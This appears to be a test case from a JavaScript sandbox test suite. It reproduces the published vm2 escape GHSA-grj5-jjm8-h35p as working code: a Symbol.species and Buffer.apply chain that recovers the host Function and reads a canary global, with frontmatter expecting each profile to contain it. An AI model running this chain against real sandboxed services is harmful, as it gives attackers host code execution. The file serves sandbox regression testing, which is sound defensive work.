/*---
id: re-array-species-04-species-self-return
description: "GHSA-grj5-jjm8-h35p as published: host arrays from the
  __lookupGetter__ + Buffer.apply walk get a constructor whose Symbol.species
  returns the array itself, so map writes raw host values into it, a chain that
  extracts the host Function."
kind: malicious
category: realm-escape
technique: RE-array-species
variant: plain
references:
  - GHSA-grj5-jjm8-h35p
proven:
  - vm2@3.9.19
expect:
  ultra-secure:
    outcome: contained
    value: held
  high-security:
    outcome: contained
    value: held
  tenant-isolated:
    outcome: contained
    value: held
---*/
// GHSA-grj5-jjm8-h35p: with the host Object from the __lookupGetter__ + Buffer.apply walk, a host array whose
// constructor's Symbol.species returns the array itself makes V8 write raw host values into it (map), so a
// chain of such calls extracts the host Function, which reads the host canary.
if (typeof Buffer !== 'function') return 'held';
const g = ({}).__lookupGetter__;
const a = Buffer.apply;
const p = a.apply(g, [Buffer, ['__proto__']]);
const ho = p.call(p.call(p.call(p.call(Buffer.of())))).constructor;
function raw(fn, self, args) {
  const r = ho.entries({});
  args.unshift(self);
  const bound = a.apply(a.bind, [fn, args]);
  r[0] = 0;
  function own() { return r; }
  own[Symbol.species] = own;
  r.constructor = own;
  r.map(bound);
  r.constructor = undefined;
  return r;
}
const fp = raw(p.call, p, [a]);
const cd = raw(ho.getOwnPropertyDescriptors, undefined, fp);
const xx = raw(ho.entries, undefined, cd);
xx[1] = [4];
const ee = raw(a, xx.at, xx);
ee[1] = [1];
const y = raw(a, ee.at, ee);
const ey = raw(ho.entries, 0, y);
ey[1] = [0];
const ea = raw(a, ee.at, ey);
ea[1] = [1];
const e = raw(a, ee.at, ea);
e.push([undefined, ['return globalThis.__SANDPROOF_CANARY__']]);
const reader = a.apply(a, e);
const token = typeof reader === 'function' ? reader() : undefined;
return typeof token === 'string' ? 'ESCAPED:' + token : 'held';
